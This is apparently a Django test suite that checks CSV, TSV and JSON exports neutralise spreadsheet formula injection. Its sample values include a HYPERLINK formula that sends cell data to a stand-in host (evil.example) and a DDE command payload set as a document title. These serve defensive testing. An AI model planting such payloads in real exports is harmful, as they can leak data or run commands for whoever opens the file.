"""No export lets a cell run as a spreadsheet formula (audit M3): one writer, one rule, every export."""

import csv
import io

import pytest
from django.urls import reverse

from directory import csv_safe
from directory.models import Service, StatedGap
from tests import factories

from .conftest import change_form_data
from .test_import_export import confirm, dry_run, export_csv, rows, write

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
TSV_FORMAT = "1"  # the second format is TSV


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=HYPERLINK()", "'\t=HYPERLINK()"),
        ("\r=HYPERLINK()", "'\r=HYPERLINK()"),
        ("+44 29 2000 0000", "'+44 29 2000 0000"),  # the same rule for a phone number (OWASP)
        ("Cardiff", "Cardiff"),
        ("07919 393311", "07919 393311"),
        ("a = b", "a = b"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (None, ""),
        (3, 3),
    ],
)
def test_cells_that_start_like_a_formula_get_a_quote_and_nothing_else_changes(value, written):
    assert csv_safe.neutralise(value) == written
    if isinstance(value, str):
        assert csv_safe.restore(written) == value


def test_the_writer_quotes_each_hostile_cell():
    out = io.StringIO()
    csv_safe.writer(out).writerow(["=1", "plain", "\t@x", 7])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "plain", "'\t@x", "7"]]


def set_in_admin(client, service, **values):
    url = reverse("admin:directory_service_change", args=[service.pk])
    data = change_form_data(client.get(url))
    data.update(values)
    assert client.post(url, data).status_code == 302


def test_admin_csv_export_neutralises_a_formula_entered_in_admin(director_client, commissioner_client, own_service):
    set_in_admin(director_client, own_service, exclusions=HOSTILE, funding_note="@SUM(1+1)*cmd")
    for client in (director_client, commissioner_client):
        exported = next(row for row in rows(export_csv(client)) if row["slug"] == own_service.slug)
        assert exported["exclusions"] == "'" + HOSTILE
        assert exported["funding_note"] == "'@SUM(1+1)*cmd"
        assert exported["name"] == own_service.name  # ordinary cells untouched


def test_admin_tsv_export_neutralises_too(director_client, own_service):
    set_in_admin(director_client, own_service, exclusions=HOSTILE)
    response = director_client.post(reverse("admin:directory_service_export"), {"format": TSV_FORMAT, "resource": "0"})
    assert response.status_code == 200
    text = response.getvalue().decode()
    exported = next(r for r in csv.DictReader(io.StringIO(text), delimiter="\t") if r["slug"] == own_service.slug)
    assert exported["exclusions"] == "'" + HOSTILE


def test_admin_json_export_follows_the_same_rule(director_client, own_service):
    set_in_admin(director_client, own_service, exclusions=HOSTILE)
    response = director_client.post(reverse("admin:directory_service_export"), {"format": "2", "resource": "0"})
    exported = next(r for r in response.json() if r["slug"] == own_service.slug)
    assert exported["exclusions"] == "'" + HOSTILE


def test_a_leading_tab_imported_from_csv_is_neutralised_in_every_export(director_client, client, own_service):
    exported = rows(export_csv(director_client))
    for row in exported:
        if row["slug"] == own_service.slug:
            row["name"] = '\t=HYPERLINK("http://evil.example/","Circles")'
    confirm(director_client, dry_run(director_client, write(exported)))
    assert Service.objects.get(pk=own_service.pk).name == '\t=HYPERLINK("http://evil.example/","Circles")'

    public = csv.DictReader(
        io.StringIO(b"".join(client.get(reverse("directory:service-export")).streaming_content).decode())
    )
    assert next(r for r in public if r["slug"] == own_service.slug)["name"] == (
        '\'\t=HYPERLINK("http://evil.example/","Circles")'
    )
    admin_row = next(r for r in rows(export_csv(director_client)) if r["slug"] == own_service.slug)
    assert admin_row["name"] == '\'\t=HYPERLINK("http://evil.example/","Circles")'


def test_reimporting_an_export_with_quoted_cells_restores_the_values(director_client, own_service):
    set_in_admin(director_client, own_service, exclusions=HOSTILE)
    preview = dry_run(director_client, export_csv(director_client))
    assert preview.context["result"].totals["update"] == 0
    confirm(director_client, preview)
    assert Service.objects.get(pk=own_service.pk).exclusions == HOSTILE


def test_gaps_csv_neutralises_a_statement_entered_in_admin(director_client, client):
    gap = StatedGap.objects.select_related("document").first()
    url = reverse("admin:directory_statedgap_change", args=[gap.pk])
    data = change_form_data(director_client.get(url))
    data["statement"] = HOSTILE
    assert director_client.post(url, data).status_code == 302

    response = client.get(reverse("commissioning:coverage-gaps-csv"))
    assert response.status_code == 200
    stated = [r for r in csv.DictReader(io.StringIO(response.getvalue().decode())) if r["kind"] == "stated"]
    assert "'" + HOSTILE in [r["statement"] for r in stated]
    assert HOSTILE not in [r["statement"] for r in stated]


def test_gaps_csv_neutralises_a_source_that_starts_like_a_formula(client):
    gap = StatedGap.objects.select_related("document").first()
    document = gap.document
    document.title = "=cmd|' /C calc'!A0"
    document.save()
    response = client.get(reverse("commissioning:coverage-gaps-csv"))
    sources = [r["source"] for r in csv.DictReader(io.StringIO(response.getvalue().decode())) if r["kind"] == "stated"]
    assert any(source.startswith("'=cmd|") for source in sources)
    assert not any(source.startswith("=") for source in sources)


def test_matrix_csv_goes_through_the_same_writer(client):
    factories.area("-1-plus-1")  # a slug may begin with a hyphen; it is quoted like any such cell
    response = client.get(reverse("commissioning:coverage-matrix-csv"))
    assert response.status_code == 200
    areas = [r["area"] for r in csv.DictReader(io.StringIO(response.getvalue().decode()))]
    assert "'-1-plus-1" in areas
    assert "cardiff" in areas
